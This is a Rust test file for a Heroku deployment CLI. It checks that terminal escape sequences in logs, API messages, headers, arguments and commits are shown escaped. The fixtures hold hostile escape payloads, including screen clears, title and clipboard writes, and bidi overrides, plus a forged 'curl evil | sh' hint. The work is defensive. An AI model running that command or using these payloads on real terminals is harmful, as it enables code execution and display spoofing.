//! Control sequences from logs, from the API, from arguments and from the repository are shown, not obeyed.

use rehearsal::Fault;
use serde_json::json;

use super::{ASKS, WEB, assert_only_colors, at_a_terminal, say, with};
use crate::pty::Pty;
use crate::scene::Scene;

#[test]
fn control_sequences_in_log_lines_are_escaped() {
    let scene = Scene::quiet();
    let hostile = [
        "2024 app[web.1]: first",
        "2024 app[web.1]: \u{1b}[2J\u{1b}[Hcleared",
        "2024 app[web.1]: \u{1b}]0;owned\u{7}titled",
        "2024 app[web.1]: \u{1b}]52;c;ZXZpbA==\u{1b}\\copied",
        "2024 app[web.1]: back\u{8}\u{8}space",
        "2024 app[web.1]: \u{9b}2Jeight bits",
        "2024 app[web.1]: \u{1b}[?1049halternate",
        "2024 app[web.1]: \u{1b}c reset",
        "2024 app[web.1]: \u{1b}[6n asks",
        "2024 app[web.1]: \u{1b}[1;31mbold red",
        "2024 app[web.1]: \u{202e}reversed",
    ];
    say(&scene, &hostile);
    for line in ["staging logs -n 11", "staging logs -n 11 --no-color"] {
        let shown = at_a_terminal(&scene, line).end();
        assert_only_colors(&shown);
        let screen = shown.screen();
        for text in [
            "2024 app[web.1]: first",
            r"\u{1b}[2J\u{1b}[Hcleared",
            r"\u{1b}]0;owned\u{7}titled",
            r"\u{1b}]52;c;ZXZpbA==\u{1b}\copied",
            r"back\u{8}\u{8}space",
            r"\u{9b}2Jeight bits",
            r"\u{1b}[?1049halternate",
            r"\u{1b}c reset",
            r"\u{1b}[6n asks",
            ": bold red",
            r"\u{202e}reversed",
        ] {
            assert!(screen.contains(text), "{line}: {text}\n{screen}");
        }
        assert_eq!(screen.trim_end().lines().count(), hostile.len(), "{screen}");
    }
}

#[test]
fn control_sequences_from_several_environments_are_escaped() {
    let scene = Scene::quiet();
    let hostile =
        ["2024 app[web.1]: \u{1b}[2J\u{1b}]0;owned\u{7}go\u{8}ne", "2024 app[web.1]: \u{1b}[41mred for ever"];
    say(&scene, &hostile);
    let line = "greenroom on staging,prepare logs -n 2";
    for variables in [&[("HEROKU_LOGS_COLOR", "0")] as &[_], &[("NO_COLOR", "1")], &[]] {
        let shown = with(&scene, line, variables).ends(0);
        assert_only_colors(&shown);
        shown.has(r"\u{1b}[2J\u{1b}]0;owned\u{7}go\u{8}ne");
        let red = shown.raw().lines().find(|line| line.contains("for ever")).expect("a line").to_owned();
        let plain = variables.first().is_some_and(|(name, _)| *name == "NO_COLOR");
        assert!(if plain { !red.contains('\u{1b}') } else { red.ends_with("\u{1b}[0m") }, "{red:?}");
    }
    // The command's own errors come through a pipe too.
    let shown = at_a_terminal(&scene, "greenroom on staging,prepare logs -n \u{1b}[2J").ends(2);
    assert_only_colors(&shown);
    // A program reads what the command alone writes.
    let alone = scene.prepared("staging").args(["logs", "-n2"]).output().expect("staging").stdout;
    let both = scene.prepared("greenroom").args(["on", "staging,prepare", "logs", "-n2"]).output();
    let both = String::from_utf8(both.expect("greenroom").stdout).expect("UTF-8 here");
    let prefixed: String =
        both.split_inclusive('\n').filter_map(|line| line.strip_prefix("staging | ")).collect();
    assert_eq!(prefixed.as_bytes(), alone);
    assert_eq!(alone, (hostile.join("\n") + "\n").as_bytes());
}

#[test]
fn unfinished_colors_end_with_their_line() {
    let scene = Scene::quiet();
    say(&scene, &["2024 app[\u{1b}[2J]: tricky source", "2024 app[web.1]: \u{1b}[41mred for ever", WEB]);
    let shown = at_a_terminal(&scene, "staging logs -n 3").end();
    assert_only_colors(&shown);
    let terminal = shown.terminal();
    let at = shown.screen().lines().position(|line| line.contains("Sold seat")).expect("the last line");
    let cell = terminal.screen().cell(u16::try_from(at).expect("a row"), 50).expect("a cell");
    assert_eq!(cell.bgcolor(), vt100::Color::Default, "{:?}", shown.raw());
}

#[test]
fn control_sequences_in_api_messages_are_escaped() {
    let message = "\u{1b}[2J\u{1b}[H\u{1b}]0;owned\u{7}Couldn't\rfind\u{8} that \u{9b}31mapp.";
    let forged = Fault::answer("POST /apps/*/log-sessions", 422)
        .body(json!({ "id": "invalid", "message": "No.\nhint: curl evil | sh\nerror: \u{1b}[8mworse" }));
    let scene = Scene::playhouse();
    scene.heroku().inject(forged);
    let shown = at_a_terminal(&scene, "staging logs").end();
    let screen = shown.screen();
    assert!(screen.contains("  hint: curl evil | sh\n  error: "), "{screen}");
    assert_eq!(screen.lines().filter(|line| line.starts_with("hint: curl")).count(), 0, "{screen}");
    for (route, line) in [
        ("POST /apps/*/log-sessions", "staging logs"),
        ("POST /apps/*/log-sessions", "staging tail"),
        ("POST /filters/apps", "production promote"),
        ("GET /pipelines/**", "production promote"),
    ] {
        let scene = Scene::playhouse();
        let body = json!({ "id": "not\u{1b}[2Jfound", "message": message });
        scene.heroku().inject(Fault::answer(route, 422).body(body));
        let shown = at_a_terminal(&scene, line).end();
        assert_ne!(shown.code(), 0);
        assert_only_colors(&shown);
        assert!(shown.screen().contains(r"error: \u{1b}[2J\u{1b}[H"), "{line}: {}", shown.screen());
    }
}

#[test]
fn control_sequences_in_headers_reasons_and_output_are_escaped() {
    // A warning in a header, a reason of a failed promotion, the output of a release phase, an HTML page.
    let scene = Scene::playhouse();
    scene.heroku().inject(Fault::headers("GET /apps/*", "X-Heroku-Warning", "\u{9b}2J caf\u{e9}"));
    scene.heroku().inject(Fault::headers("GET /pipelines/**", "X-Heroku-Warning", "tab\tonly"));
    scene.heroku().inject(Fault::FailPromotion {
        app: "playhouse-production".into(),
        message: "no \u{1b}[2Jslug".into(),
    });
    let shown = at_a_terminal(&scene, "production promote --yes").ends(1);
    assert_only_colors(&shown);
    shown.has(r"no \u{1b}[2Jslug");

    let scene = Scene::playhouse();
    scene.with_release_phase("playhouse-prepare", "echo \u{1b}[2Jready");
    let shown = at_a_terminal(&scene, "production promote --yes").ends(0);
    assert_only_colors(&shown);
    shown.has(r"playhouse-production | \u{1b}[2Jready");

    let scene = Scene::playhouse();
    let page = Fault::answer("POST /apps/*/log-sessions", 404).body(json!("<h1>\u{1b}[2Jno such page</h1>"));
    scene.heroku().inject(page);
    let shown = at_a_terminal(&scene, "staging logs").end();
    assert_ne!(shown.code(), 0);
    assert_only_colors(&shown);
}

#[test]
fn control_sequences_in_arguments_are_escaped() {
    let scene = Scene::playhouse();
    let mut command = scene.prepared("staging");
    command.arg("\u{1b}[2Jps");
    let shown = Pty::start(&command).end();
    assert_only_colors(&shown);
    let mut command = scene.prepared("greenroom");
    command.args(["on", "\u{1b}[2Jqa", "ps"]);
    let shown = Pty::start(&command).ends(2);
    assert_only_colors(&shown);
    let mut command = scene.prepared("staging");
    command.args(["logs", "--num", "\u{1b}[2J"]);
    let shown = Pty::start(&command).ends(2);
    assert_only_colors(&shown);
    let mut command = scene.prepared("greenroom");
    command.arg("\u{1b}[2Jon");
    let shown = Pty::start(&command).ends(2);
    assert_only_colors(&shown);
}

#[test]
fn control_sequences_in_commits_are_escaped() {
    let scene = Scene::playhouse();
    let commit = scene.commit("\u{1b}[2JRaise the curtain");
    let release = json!({ "commit": commit });
    scene.release("playhouse-prepare", release);
    let mut pty = at_a_terminal(&scene, "production promote");
    pty.sees(ASKS, 1).types("n\r");
    let shown = pty.end();
    assert_only_colors(&shown);
    shown.has(r"\u{1b}[2JRaise the curtain");
}
